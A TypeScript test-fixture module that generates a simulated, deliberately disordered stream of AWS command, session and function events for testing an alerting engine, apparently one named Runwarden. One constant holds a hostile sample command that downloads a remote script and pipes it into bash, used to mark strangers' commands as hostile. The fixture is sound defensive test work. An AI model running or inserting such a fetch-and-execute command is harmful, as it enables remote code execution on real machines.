import { alertId } from '../../../shared/engine/build-alert'
import { DAY, SECOND } from '../../../shared/model/time'
import {
  machines,
  nativeCommandEvent,
  sendCommandEvent,
  startSessionEvent,
  updateFunctionEvent,
} from '../../support/aws-events'
import type { Random } from '../random'

/** What is to become of an event. */
type Fate =
  /** Judged, with nothing to be said. */
  | 'silent'
  /** An alert of its own arrives. */
  | 'reported'
  /** An alert arrives, or is counted with one of its caller. */
  | 'reported or counted'
  /** Nothing of ours, or what is known already. */
  | 'passed over'
  | 'quarantined'

export interface Occurrence {
  readonly fate: Fate
  /** Of the activity, where the event is one. */
  readonly id: string
  readonly alert: string
  /** Key of its alerts' ledger entry is by caller. */
  readonly caller: string
  /** The event, equal at each call. */
  readonly event: () => unknown
}

/** An occurrence with its place in the order of delivery. */
export interface Delivery {
  readonly place: number
  readonly occurrence: Occurrence
}

const BEGIN = Date.UTC(2026, 2, 2, 10)

/** Share of events that are delivered twice. */
const DUPLICATES = 0.2

/** Places by which an event may be early or late; a duplicate comes up to ten times as late. */
const DISORDER = 200

const OPERATORS = 60

/** Events of a caller's storm of one alerting command. */
const STORM = 25

const ROUTINE_SCRIPT = 'yum -y update'
const HOSTILE_SCRIPT = 'curl -s http://203.0.113.9/setup.sh | bash'

/** Settings under which the story has the fates it names. */
export const STORY_SETTINGS: Readonly<Record<string, string>> = {
  RUNWARDEN_KNOWN_ADMINS: JSON.stringify(['aws:123456789012:role/Operator-*']),
}

const uuid = (kind: number, number: number): string =>
  `00000000-0000-000${kind}-0000-${String(number).padStart(12, '0')}`

const HOSTILE = 2

/** The text of a command by its id. */
export const scriptOf = (commandId: string): string =>
  commandId.startsWith(`00000000-0000-000${HOSTILE}`) ? HOSTILE_SCRIPT : ROUTINE_SCRIPT

const isoSeconds = (at: number): string =>
  new Date(Math.floor(at / SECOND) * SECOND).toISOString().replace('.000Z', 'Z')

/** Ids that the helpers draw again at each call, by the event's own. */
const pinned = <T extends { readonly detail: unknown }>(event: T, id: string): T => ({
  ...event,
  id,
  detail: { ...(event.detail as object), ...('requestID' in (event.detail as object) ? { requestID: id } : {}) },
})

/** Three machines of each operator, fewer than mass execution counts. */
const fleetOf = (operator: number): readonly string[] =>
  machines(3, String(operator).padStart(2, '0')).map((id) => id.slice(0, 19))

const command = (fate: Fate, number: number, caller: string, instances: readonly string[], at: number): Occurrence => {
  const [id, commandId] = [uuid(0, number), uuid(fate === 'silent' ? 1 : HOSTILE, number)]
  return {
    fate,
    id,
    caller,
    alert: alertId({ id, commandId }),
    event: () =>
      pinned(sendCommandEvent({ eventId: id, commandId, role: caller, instances, time: isoSeconds(at) }), id),
  }
}

const session = (fate: Fate, number: number, caller: string, machine: string, at: number): Occurrence => {
  const id = uuid(0, number)
  return {
    fate,
    id,
    caller,
    alert: alertId({ id, commandId: null }),
    event: () => pinned(startSessionEvent(machine, { eventId: id, role: caller, time: isoSeconds(at) }), id),
  }
}

/** A status change of the command of another event. */
const native = (number: number, of: number, hostile: boolean, at: number): Occurrence => {
  const id = uuid(3, number)
  const commandId = uuid(hostile ? HOSTILE : 1, of)
  return {
    fate: 'passed over',
    id,
    caller: '',
    alert: '',
    event: () => ({ ...nativeCommandEvent(commandId, [scriptOf(commandId)], isoSeconds(at)), id }),
  }
}

const other = (fate: Fate, number: number, event: (id: string) => unknown): Occurrence => {
  const id = uuid(4, number)
  return { fate, id, caller: '', alert: '', event: () => event(id) }
}

/** One command and one session of each operator, the day before: reported as first seen, and known from then on. */
export const yesterday = (): readonly Occurrence[] =>
  Array.from({ length: OPERATORS }, (_, operator) => operator).flatMap((operator) => [
    {
      ...command('silent', 9_000_000 + operator, `Operator-${operator}`, fleetOf(operator), BEGIN - DAY),
      fate: 'reported' as const,
    },
    {
      ...session('silent', 9_100_000 + operator, `Operator-${operator}`, fleetOf(operator)[0] ?? '', BEGIN - DAY),
      fate: 'reported' as const,
    },
  ])

/**
 * Deliveries in their order: of a hundred occurrences some 25 are usual commands, 50 the status changes of those, 15
 * usual sessions, 8 changes of functions that are not ours, one each a stranger's session or command, and now and then
 * a storm of a stranger's commands or a record without a time. A fifth comes twice; the order is disturbed.
 */
export const story = (events: number, random: Random): readonly Delivery[] => {
  const deliveries: Delivery[] = []
  let number = 0
  const put = (place: number, occurrence: Occurrence): void => {
    const early = place + random.next() * DISORDER
    deliveries.push({ place: early, occurrence })
    if (random.next() < DUPLICATES) deliveries.push({ place: early + random.next() * 10 * DISORDER, occurrence })
  }
  while (deliveries.length < events) {
    const at = BEGIN + deliveries.length
    const place = deliveries.length
    const mine = ++number
    const operator = random.below(OPERATORS)
    const draw = random.next()
    const withNatives = (occurrence: Occurrence, hostile: boolean): void => {
      put(place, occurrence)
      for (let change = 0; change < 2; change++)
        put(place + random.next() * 3 * DISORDER, native(++number, mine, hostile, at))
    }
    if (draw < 0.5) withNatives(command('silent', mine, `Operator-${operator}`, fleetOf(operator), at), false)
    else if (draw < 0.8) put(place, session('silent', mine, `Operator-${operator}`, fleetOf(operator)[0] ?? '', at))
    else if (draw < 0.96)
      put(
        place,
        other('passed over', mine, (id) =>
          pinned(updateFunctionEvent('checkout', { eventId: id, time: isoSeconds(at) }), id),
        ),
      )
    else if (draw < 0.98) put(place, session('reported', mine, `Stranger-${mine}`, machines(1)[0] ?? '', at))
    else if (draw < 0.996) withNatives(command('reported', mine, `Stranger-${mine}`, machines(1), at), true)
    else if (draw < 0.998)
      for (let again = 0; again < STORM; again++)
        put(place + again, command('reported or counted', ++number, `Storm-${mine}`, machines(1), at + again * SECOND))
    else
      put(
        place,
        other('quarantined', mine, (id) =>
          pinned(startSessionEvent(machines(1)[0] ?? '', { eventId: id, time: 'yesterday' }), id),
        ),
      )
  }
  return deliveries.toSorted((a, b) => a.place - b.place).slice(0, events)
}
